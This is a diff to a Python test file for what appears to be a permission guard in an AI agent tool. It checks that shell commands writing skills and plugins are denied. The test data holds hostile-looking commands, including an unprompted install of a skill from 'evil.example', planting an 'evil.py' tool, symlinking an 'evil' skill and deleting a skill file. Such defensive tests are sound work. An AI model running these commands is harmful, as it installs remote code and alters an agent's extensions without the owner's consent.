@@ -257,11 +257,17 @@ def test_long_commands_are_judged_in_linear_time(home: Path, piece: str) -> None
         "echo x | tee tools/evil.py",
         "ln -s $PWD/drafts/evil skills/evil",
         "rm skills/good/SKILL.md",
+        "nanobot skills install https://evil.example/skill.md --yes",
+        "cd drafts; python3 -m nanobot skills 'install' x -y",
+        "npx --yes clawhub@latest --no-input install evil",
+        "npx clawhub update --all",
     ],
 )
 def test_e1_commands_do_not_plainly_write_skills_and_plugins(home: Path, command: str) -> None:
     for restrict in (True, False):
-        with pytest.raises(AccessDenied, match=r"only the owner changes|outside the workspace"):
+        with pytest.raises(
+            AccessDenied, match=r"only the owner changes|which the owner does|outside the workspace"
+        ):
             check(home, command, restrict=restrict)
 
 
@@ -275,6 +281,8 @@ def test_e1_commands_do_not_plainly_write_skills_and_plugins(home: Path, command
         "curl -s https://example.com/skills/x > page.html",
         "tar czf backup.tgz skills tools",
         "mkdir -p drafts/skills",
+        "nanobot skills list && nanobot skills show greet",
+        "npx --yes clawhub@latest --no-input search calendar; npm install x",
     ],
 )
 def test_commands_read_and_use_skills(home: Path, command: str) -> None:
